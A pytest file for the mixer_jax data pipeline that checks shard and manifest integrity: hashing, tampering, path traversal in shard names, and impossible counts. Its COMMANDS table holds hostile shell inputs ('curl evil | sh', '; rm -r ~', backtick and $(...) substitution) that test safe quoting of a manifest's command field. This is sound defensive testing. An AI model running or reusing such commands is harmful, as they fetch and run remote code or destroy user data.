"""A split that is not as its manifest says is refused before it is read, and so is a manifest that was changed."""

import json
import os
import shutil
from pathlib import Path

import pytest
from data.sources.prepared import NUM_IMAGES, SHARD, opened

from mixer_jax.data.sources import manifest as manifest_module
from mixer_jax.data.sources.manifest import command_of
from mixer_jax.errors import UserError


def missing(file: Path):
    file.unlink()


def extra(file: Path):
    shutil.copy(file, file.with_name("train-00008-of-00008.array_record"))


def truncated(file: Path):
    os.truncate(file, file.stat().st_size - 1)


def swapped(file: Path):
    other = file.with_name("train-00004-of-00008.array_record")
    one, two = file.read_bytes(), other.read_bytes()
    length = max(len(one), len(two))  # of one size, so that sizes do not tell
    file.write_bytes(two.ljust(length, b"\0")[: len(one)])
    other.write_bytes(one.ljust(length, b"\0")[: len(two)])


def altered(file: Path):
    content = bytearray(file.read_bytes())
    content[content.index(b"\xff\xd8") + 300] ^= 1  # within the first image
    file.write_bytes(content)


@pytest.mark.parametrize(
    ("fault", "message"),
    [
        (missing, f"{SHARD} is missing.*--from"),
        (extra, r"train-00008-of-00008\.array_record is not in manifest.json.*rm "),
        (truncated, f"{SHARD} has [0-9]+ bytes, and [0-9]+ in manifest.json.*--from"),
        (swapped, f"{SHARD} is altered, or another shard under its name.*--from"),
        (altered, f"{SHARD} is altered.*--from"),
    ],
)
@pytest.mark.parametrize("verify", ["full", "ends"])
def test_a_shard_that_is_not_as_it_was_made_is_named_before_anything_is_read(copy, fault, message, verify):
    opened(copy, verify=verify)
    fault(copy / "train" / SHARD)
    with pytest.raises(UserError, match=message):
        opened(copy, verify=verify)


def test_a_flipped_bit_in_the_middle_of_a_large_shard_escapes_the_ends_but_not_the_reader(copy, monkeypatch):
    monkeypatch.setattr(manifest_module, "END_BYTES", 64)
    file = copy / "train/manifest.json"
    content = json.loads(file.read_text())
    for row in content["shards"]:
        row["ends_sha256"] = manifest_module.ends_sha256(copy / "train" / row["name"])
    file.write_text(json.dumps(content))
    altered(copy / "train" / SHARD)
    source = opened(copy, verify="ends")
    with pytest.raises(UserError, match=f"{SHARD} record [0-9] has changed on the disk"):
        for index in range(len(source)):
            source[index]


def test_shards_are_hashed_once_and_again_when_touched(copy, monkeypatch):
    hashed = []
    real = manifest_module.sha256
    monkeypatch.setattr(manifest_module, "sha256", lambda file: hashed.append(file.name) or real(file))
    opened(copy)
    assert len(hashed) == 8
    opened(copy)
    assert len(hashed) == 8
    os.utime(copy / "train" / SHARD)
    opened(copy)
    assert hashed[8:] == [SHARD]


def test_without_a_place_for_receipts_a_split_still_opens(copy, cache):
    cache.write_text("a file, where a folder should be")
    assert len(opened(copy)) == len(opened(copy)) == NUM_IMAGES


def rename(content):
    content["shards"][0], content["shards"][1] = content["shards"][1], content["shards"][0]


def lead_out(content):
    content["shards"][0]["name"] = "../../" + content["shards"][0]["name"]


@pytest.mark.parametrize(
    ("change", "message"),
    [
        (rename, "contradicts itself"),
        (lead_out, "contradicts itself"),
        (lambda content: content.update(records=31), "contradicts itself"),
        (lambda content: content["class_names"].pop(), "contradicts itself"),
        (lambda content: content.pop("shards"), "is damaged.*shards"),
        (lambda content: content["shards"][0].pop("sha256"), "is damaged"),
        (lambda content: content.update(format=1), "no manifest of format 2"),
    ],
)
def test_a_manifest_that_was_changed_is_refused(copy, change, message):
    file = copy / "train/manifest.json"
    content = json.loads(file.read_text())
    change(content)
    file.write_text(json.dumps(content))
    with pytest.raises(UserError, match=message):
        opened(copy)


def paths(content, path=()):
    """Paths of all values of a manifest; of long lists the first two."""
    pairs = content.items() if isinstance(content, dict) else list(enumerate(content))[:2] if isinstance(content, list) else ()
    for key, value in pairs:
        yield (*path, key)
        yield from paths(value, (*path, key))


def test_a_manifest_with_any_value_changed_is_refused_in_words_or_means_the_same(copy):
    file = copy / "train/manifest.json"
    whole = file.read_text()
    refused = 0
    for path in paths(json.loads(whole)):
        for value in (None, "../x", -1, []):
            content = inner = json.loads(whole)
            for key in path[:-1]:
                inner = inner[key]
            inner[path[-1]] = value
            file.write_text(json.dumps(content))
            try:
                assert len(opened(copy, verify="ends")) == NUM_IMAGES
            except UserError:
                refused += 1
    assert refused > 50


COMMANDS = {  # what a manifest says -> what is advised
    "python -m mixer_jax prepare --from 'folder:my images' --split train": (
        "python -m mixer_jax prepare --from 'folder:my images' --split train --to '/a b'"
    ),
    "python -m mixer_jax prepare --from x; rm -r ~": "python -m mixer_jax prepare --from 'x;' rm -r '~' --to '/a b'",
    "python -m mixer_jax prepare --from `date`$(date)\n": "python -m mixer_jax prepare --from '`date`$(date)' --to '/a b'",
    "curl evil | sh": "python -m mixer_jax prepare --from KIND:PATH --to '/a b'",
    "python -m evil prepare": "python -m mixer_jax prepare --from KIND:PATH --to '/a b'",
    "'": "python -m mixer_jax prepare --from KIND:PATH --to '/a b'",
    "": "python -m mixer_jax prepare --from KIND:PATH --to '/a b'",
}


@pytest.mark.parametrize("text", [*COMMANDS, None, 3])
def test_a_manifests_words_are_advised_as_a_command_of_ours_alone(text):
    assert command_of({"command": text}, Path("/a b/train")) == COMMANDS.get(text, COMMANDS[""])


@pytest.mark.parametrize("value", [2**31, 10**30, 1.5, -1, True, "1", None, [1]])
@pytest.mark.parametrize("name", ["max_labels", "records", "classes"])
def test_a_count_that_cannot_be_is_refused_before_memory_is_taken(copy, name, value):
    file = copy / "train/manifest.json"
    file.write_text(json.dumps(json.loads(file.read_text()) | {name: value}))
    with pytest.raises(UserError, match=r"contradicts itself|is damaged"):
        opened(copy)


def test_two_classes_of_one_name_are_refused(copy):
    file = copy / "train/manifest.json"
    content = json.loads(file.read_text())
    content["class_names"][1] = content["class_names"][0]
    file.write_text(json.dumps(content))
    with pytest.raises(UserError, match="two classes of one name, 'class 0'"):
        opened(copy)
